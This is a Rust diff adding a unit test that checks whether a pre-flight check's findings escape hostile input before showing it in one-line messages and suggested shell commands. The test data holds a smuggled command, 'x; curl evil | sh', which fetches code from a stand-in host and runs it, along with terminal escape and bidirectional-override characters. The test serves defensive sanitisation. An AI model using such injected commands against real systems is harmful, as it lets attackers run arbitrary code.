@@ -332,3 +332,38 @@ impl CheckSubject {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    static NAMED: Check = Check {
+        name: "named",
+        stage: Stage::PreFlight,
+        level: Level::Required,
+        why: "",
+        looks_at: "",
+        asks: &[],
+        fix: "look at {subject}, or make it: aws make --name {subject}",
+        source: "",
+    };
+
+    #[test]
+    fn a_finding_shows_what_others_have_named_in_one_line_and_as_one_word_of_an_action() {
+        let finding = NAMED.on("x; curl evil | sh\n", "a\u{202e}b").at(Some("c\r.yml:1:1"));
+        let finding = finding.failed("\u{1b}[2J");
+        assert_eq!(finding.subject, r"x; curl evil | sh\u{a}");
+        assert_eq!(finding.at.as_deref(), Some(r"c\u{d}.yml:1:1"));
+        assert_eq!(
+            finding.fix.as_deref(),
+            Some(
+                r"look at 'x; curl evil | sh\u{a}', or make it: aws make --name 'x; curl evil | sh\u{a}'"
+            )
+        );
+        assert_eq!(finding.in_brief(), r"named: saw \u{1b}[2J, wanted a\u{202e}b");
+        assert_eq!(
+            NAMED.on("acme-sc", "").failed("").fix.as_deref(),
+            Some("look at acme-sc, or make it: aws make --name acme-sc")
+        );
+    }
+}
